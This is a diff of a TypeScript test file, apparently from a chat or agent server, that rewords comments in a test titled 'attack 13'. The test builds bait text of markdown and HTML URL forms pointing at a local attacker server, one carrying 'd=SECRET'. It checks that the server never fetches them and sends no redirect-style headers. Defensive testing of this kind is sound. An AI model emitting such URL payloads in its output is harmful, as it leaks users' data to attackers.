@@ -19,7 +19,7 @@ afterEach(async () => {
   undo = new AsyncDisposableStack();
 });
 
-/** The place data is to be carried to: it notes whoever comes. */
+/** The server of the attacker, which records requests. */
 async function thief(): Promise<{ url: string; visits: string[] }> {
   const visits: string[] = [];
   const server = createServer((request: IncomingMessage, response) => {
@@ -35,7 +35,7 @@ async function thief(): Promise<{ url: string; visits: string[] }> {
   return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, visits };
 }
 
-/** Every way to name an address in a text so that something shows, previews or prefetches it. */
+/** Every syntax for a URL in a text that a client may show, preview or prefetch. */
 const bait = (url: string): string => `
 ![inline](${url}/inline?d=SECRET) [![both](${url}/inner)](${url}/outer) ![reference][r] [link](${url}/link) <${url}/auto>
 ${url}/bare
@@ -48,8 +48,8 @@ ${url}/bare
 <video poster="${url}/poster"><source src="${url}/source"></video><object data="${url}/object"></object>
 `;
 
-describe('attack 13: data carried away in addresses a model or a tool writes', () => {
-  it('the server asks for none of them, whatever is done with the conversation', async () => {
+describe('attack 13: exfiltration of data in URLs that a model or tool writes', () => {
+  it('the server requests none of them, whatever a client does with the conversation', async () => {
     const { url: there, visits } = await thief();
     const result = {
       content: [
@@ -110,7 +110,7 @@ describe('attack 13: data carried away in addresses a model or a tool writes', (
     for (const target of [...looked, ...lists, `/api/runs/${sent.run.id}/events`]) {
       const answer = await fetch(`${url}${target}`);
       expect([target, answer.status]).toEqual([target, 200]);
-      // Nor is a browser told to by anything but the text itself.
+      // No header or markup outside of the text makes a browser request them.
       for (const name of ['link', 'refresh', 'location', 'nel', 'report-to']) {
         expect([target, name, answer.headers.get(name)]).toEqual([target, name, null]);
       }
